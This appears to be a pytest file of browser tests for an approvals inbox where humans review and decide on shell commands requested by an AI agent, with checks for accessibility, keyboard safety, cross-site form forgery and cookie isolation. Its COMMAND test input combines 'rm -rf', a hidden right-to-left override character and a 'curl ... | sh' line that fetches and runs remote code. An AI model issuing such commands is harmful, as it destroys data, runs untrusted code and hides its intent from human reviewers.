"""The pages in a real browser: decided by clicks and keys, and looked at by an accessibility checker (axe-core)."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from humanlayer_agent.approvals.model import Approver
from humanlayer_agent.testing.conformance import CONTACT, FETCH
from humanlayer_agent.testing.patience import until
from tests.support import extent
from tests.support.browser import find_chromium
from tests.support.browser_session import Browser, BrowserError, Session, browser

pytestmark = pytest.mark.skipif(find_chromium() is None, reason="Chromium is not installed: apt-get install chromium")

COMMAND = 'cd build && rm -rf "$CACHE"/* \u202e/srv/app\ncurl -fsS https://get.example.com/install.sh | sh'
SCREENS = [(1000, "light"), (360, "dark")]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as made:
        yield made


@pytest.fixture
def tab(chromium: Browser) -> Iterator[Session]:
    with chromium.tab() as made:
        yield made


def log_in(tab: Session, inbox) -> str:
    """Returns the address that alice's pages are below."""
    tab.open(f"{inbox.rig.url}/")
    assert "Login code" in tab.text()
    tab.type("#code", inbox.rig.lines[-1].rpartition(" ")[2])
    tab.press("Enter", leads_on=True)
    assert "Approvals inbox" in tab.text()
    return str(tab.run("location.href")).rstrip("/")


def test_approve_from_the_inbox(inbox, tab: Session) -> None:
    request = inbox.ask(COMMAND)
    inbox.deliver(request)
    log_in(tab, inbox)
    tab.click("a", "cd build")
    assert "\\u{202e}/srv/app" in tab.text()
    tab.click("button", "Approve")
    assert "Your answer is recorded." in tab.text()
    assert "Approved by alice" in tab.text()
    assert inbox.state(request) == "approved"
    with pytest.raises(BrowserError, match="can be clicked"):
        tab.click("button", "Approve")
    assert tab.console == []


def test_reject_edit_and_respond(inbox, tab: Session) -> None:
    home = log_in(tab, inbox)
    rejected, edited, answered = (inbox.ask(f"make {name}") for name in ("one", "two", "three"))
    for request in (rejected, edited, answered):
        inbox.deliver(request)

    tab.open(f"{home}/r/{rejected.id}")
    tab.type("#reason", "not on a Friday")
    tab.click("button", "Reject")
    assert inbox.state(rejected) == "rejected"
    assert "not on a Friday" in tab.text()

    tab.open(f"{home}/r/{edited.id}")
    tab.click("summary", "Change the command", leads_on=False)
    assert tab.run("document.querySelector('#new').value") == "make two"
    tab.type("#new", "make two -n\necho done")
    tab.click("button", "Run this instead")
    assert inbox.state(edited) == "superseded"
    assert inbox.store.votes(edited.id)[0].edited == "make two -n\necho done"

    tab.open(f"{home}/r/{answered.id}")
    tab.click("summary", "Answer the agent", leads_on=False)
    tab.type("#words", "use make three-dry")
    tab.click("button", "Answer")
    assert inbox.state(answered) == "answered"
    assert tab.console == []


def test_a_server_on_another_port_gets_no_cookie(inbox, tab: Session) -> None:
    """An agent starts a server, and the human who is logged in looks at it, in the same browser."""
    got: list[tuple[str, str]] = []

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            got.append((self.path, self.headers.get("Cookie", "")))
            self.send_response(200)
            self.send_header("Set-Cookie", "hla_session=x; Path=/")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    request = inbox.ask()
    inbox.deliver(request)
    home = log_in(tab, inbox)
    with ThreadingHTTPServer(("127.0.0.1", 0), Spy) as server:  # a browser connects before it asks
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        for path in ("/", "/s/", "/s/x/", "/login", "/r/x"):
            tab.open(f"http://127.0.0.1:{server.server_port}{path}")
        server.shutdown()
    assert {"/", "/s/x/"} <= {path for path, _ in got}
    inbox_cookie = [cookie for _, cookie in got if cookie not in ("", "hla_session=x")]
    assert inbox_cookie == []
    tab.open(f"{home}/")
    assert "Approvals inbox" in tab.text(), "and what it sets does not log her out"
    assert "make deploy" in tab.text()


def test_by_keyboard_alone(inbox, tab: Session) -> None:
    """Everything can be reached with Tab, and Enter in the reason does not approve."""
    request = inbox.ask()
    inbox.deliver(request)
    tab.open(f"{log_in(tab, inbox)}/r/{request.id}")
    seen = []
    for _ in range(30):
        tab.press("Tab")
        seen.append(tab.run("document.activeElement.textContent.trim().slice(0, 40) || document.activeElement.id"))
        outlined = tab.run("getComputedStyle(document.activeElement).outlineStyle")
        assert outlined != "none" or tab.run("document.activeElement === document.body")
        if seen[-1].startswith("Reject"):
            break
    assert any(each.startswith("Approve") for each in seen)
    assert inbox.state(request) == "pending"
    tab.press("Enter", leads_on=True)
    assert inbox.state(request) == "rejected"


@pytest.mark.long
def test_the_list_stays_up_to_date_by_itself(inbox, tab: Session) -> None:
    first = inbox.ask("make first")
    inbox.deliver(first)
    log_in(tab, inbox)
    assert tab.run("document.title") == "1 waiting · Approvals inbox"
    tab.press("j")
    focused = "document.activeElement.textContent"
    assert tab.run(focused) == "make first"
    inbox.deliver(inbox.ask("make second"))
    until(lambda: tab.run("document.title") == "2 waiting · Approvals inbox", "the new title")
    assert "make second" in tab.text()
    assert tab.run(focused) == "make first", "the focus stays where it was"
    tab.press("j")
    assert tab.run(focused) == "make second"
    tab.press("k")
    tab.press("Enter", leads_on=True)
    assert "make first wants" not in tab.text()
    assert "make first" in tab.text()
    assert tab.run("document.title").startswith("(2) Waiting")
    assert tab.console == []


@pytest.mark.long
def test_what_is_typed_stays_and_can_not_be_sent_once_it_is_decided_elsewhere(inbox, tab: Session) -> None:
    request = inbox.ask()
    inbox.deliver(request)
    tab.open(f"{log_in(tab, inbox)}/r/{request.id}")
    tab.type("#reason", "not while the")
    inbox.deliver(inbox.ask("make another"))
    until(lambda: tab.run("document.title").startswith("(2)"), "the new title")
    assert tab.run("document.querySelector('#reason').value") == "not while the"
    assert tab.run("document.activeElement.id") == "reason"
    inbox.decide_elsewhere(request, "reject")
    until(lambda: "settled meanwhile" in tab.text(), "the news")
    assert "Rejected" in tab.run("document.querySelector('#state').textContent")
    assert tab.run("document.querySelector('#reason').value") == "not while the"
    assert tab.run("[...document.querySelectorAll('.decide button')].every(button => button.disabled)")


def test_no_key_decides_by_itself(inbox, tab: Session) -> None:
    request = inbox.ask()
    inbox.deliver(request)
    tab.open(f"{log_in(tab, inbox)}/r/{request.id}")
    for key in ("Enter", " ", "d", "e", "r"):
        tab.press(key)
        tab.press("Escape")
    tab.press("a")
    assert tab.run("document.activeElement.className") == "approve"
    tab.press("Enter")  # at once: typed ahead, not meant
    assert inbox.state(request) == "pending"
    until(lambda: tab.run("performance.now() - led > ARMED"), "that the button is armed")
    tab.press("d")
    assert tab.run("document.activeElement.id") == "reason"
    tab.press("a")  # a letter of the reason
    assert tab.run("document.querySelector('#reason').value") == "a"
    tab.press("Escape")
    tab.press("a")
    until(lambda: tab.run("performance.now() - led > ARMED"), "that the button is armed")
    tab.press("Enter", leads_on=True)
    assert inbox.state(request) == "approved"


@pytest.mark.long
def test_a_sound_for_who_wants_it(inbox, tab: Session) -> None:
    home = log_in(tab, inbox)
    assert not tab.run("document.querySelector('#sound').checked")
    tab.click("label.check", leads_on=False)
    rung = "Number(document.querySelector('#main').dataset.rung || 0)"
    assert tab.run(rung) == 1, "it is heard how it sounds"
    inbox.deliver(inbox.ask())
    until(lambda: tab.run(rung) == 2, "the sound")
    tab.open(f"{home}/")
    assert tab.run("document.querySelector('#sound').checked")


def test_expired_and_already_decided(inbox, tab: Session) -> None:
    home = log_in(tab, inbox)
    expired, decided = inbox.ask("make late"), inbox.ask("make twice")
    for request in (expired, decided):
        inbox.deliver(request)
    tab.open(f"{home}/r/{expired.id}")
    inbox.store.expire(expired.id)
    tab.click("button", "Approve")
    assert "did not count" in tab.text()
    assert "Expired: denied" in tab.text()
    tab.open(f"{home}/r/{decided.id}")
    inbox.decide_elsewhere(decided, "reject")
    tab.click("button", "Approve")
    assert "did not count" in tab.text()
    assert inbox.state(decided) == "rejected"
    assert len(inbox.store.votes(decided.id)) == 1


def test_a_link_with_a_code(inbox, tab: Session, tokens) -> None:
    request, path = inbox.mailed(severity="high")
    tab.open(inbox.rig.url + path)
    tab.type("#code-approve", tokens.code(request.id, "bob@example.com"))
    tab.click("button", "Approve")
    assert inbox.state(request) == "approved"


def test_another_site_can_not_send_the_form(inbox, tab: Session, tmp_path: Path) -> None:
    """A page from elsewhere that sends its visitor's browser here."""
    request = inbox.ask()
    inbox.deliver(request)
    home = log_in(tab, inbox)
    evil = tmp_path / "evil.html"
    evil.write_text(
        f'<form method="post" action="{home}/r/{request.id}"><input name="answer" value="approve">'
        "<button>win a prize</button></form>"
    )
    tab.open(evil.as_uri())
    tab.click("button", "win")
    assert "a form must come from a page of this server" in tab.text()
    tab.open("data:text/html,<iframe src='" + inbox.rig.url + "/' width=800 height=600></iframe>")
    assert inbox.state(request) == "pending"


def test_grant_and_take_back(inbox, tab: Session) -> None:
    request = inbox.ask(FETCH, asks=CONTACT)
    inbox.deliver(request)
    home = log_in(tab, inbox)
    tab.open(f"{home}/r/{request.id}")
    tab.click("summary", "Approve more than once", leads_on=False)
    tab.click("label.choice", "this exact command", leads_on=False)
    tab.press("Enter", leads_on=True)
    assert "Enter answers nothing here" in tab.text()
    assert inbox.state(request) == "pending"
    tab.click("summary", "Approve more than once", leads_on=False)
    tab.run("document.querySelector('input[value=hour]').click()")
    tab.click("button", "Approve this, and what you chose")
    assert "Approved by alice, and remembered: curl contacting example.org:443, for 1 hour" in tab.text()
    tab.open(f"{home}/grants")
    tab.click("button", "Revoke")
    assert "Taken back" in tab.text()
    grant = inbox.store.grants.get(request.id)
    assert grant is not None
    assert grant.revoked is not None
    assert tab.console == []


@pytest.mark.long
def test_several_by_ticks(inbox, tab: Session) -> None:
    requests = [inbox.ask(f"make {name}") for name in ("one", "two", "three")]
    for request in requests:
        inbox.deliver(request)
    log_in(tab, inbox)
    tab.click("a", "Answer several together")
    for number in (1, 2):
        tab.run(f"document.querySelectorAll('input[name=pick]')[{number}].click()")
    tab.run("document.querySelector('input[name=pick]').focus()")
    tab.press("Enter", leads_on=True)
    assert {inbox.state(request) for request in requests} == {"pending"}, "Enter on a box answers nothing"
    for number in (1, 2):
        tab.run(f"document.querySelectorAll('input[name=pick]')[{number}].click()")
    tab.click("button", "Approve those that are ticked")
    assert [inbox.state(request) for request in requests] == ["pending", "approved", "approved"]
    assert tab.console == []


@pytest.mark.long
def test_accessibility(inbox, tab: Session) -> None:
    """No violation of WCAG 2.1 AA or of the best practices that axe-core finds, on a wide and a narrow screen, light and dark."""
    import axe_core_python

    axe = (Path(axe_core_python.__file__).parent / "axe.min.js").read_text()
    request, path = inbox.mailed(command=COMMAND, severity="high", model_intent="I clean up.")
    inbox.deliver(request)
    decided = inbox.ask("make decided")
    inbox.deliver(decided)
    inbox.decide_elsewhere(decided, "reject")
    tab.open(f"{inbox.rig.url}/login")
    checked, home = 0, inbox.rig.url
    fetched, granted = inbox.ask(FETCH, asks=CONTACT), inbox.ask(FETCH, asks=CONTACT)
    for each in (fetched, granted):
        inbox.deliver(each)
    inbox.approvers.vote(
        inbox.store, granted, approver=Approver(inbox.rig.people["alice"], "web", "login"), scope="run"
    )
    inside = [f"/r/{each.id}" for each in (request, decided, fetched)]
    for url in ("/login", path, "", "/", *inside, "/grants", "/several", "/nothing"):
        if not url:
            home = log_in(tab, inbox)
            continue
        for width, scheme in SCREENS if extent.ALL else [SCREENS[checked % 2]]:
            tab.resize(width, 800)
            tab.prefers(scheme)
            tab.open(home + url)
            tab.run("document.querySelectorAll('details').forEach(each => { each.open = true })")
            tab.run(axe + "; 0")
            found = tab.run("axe.run().then(r => r.violations.map(v => [v.id, v.nodes.map(n => n.html).slice(0, 3)]))")
            assert found == [], f"{url} at {width}, {scheme}"
            assert tab.run("document.documentElement.scrollWidth <= innerWidth"), f"{url} is wider than {width}"
            checked += 1
    assert checked == extent.some(18, 9)
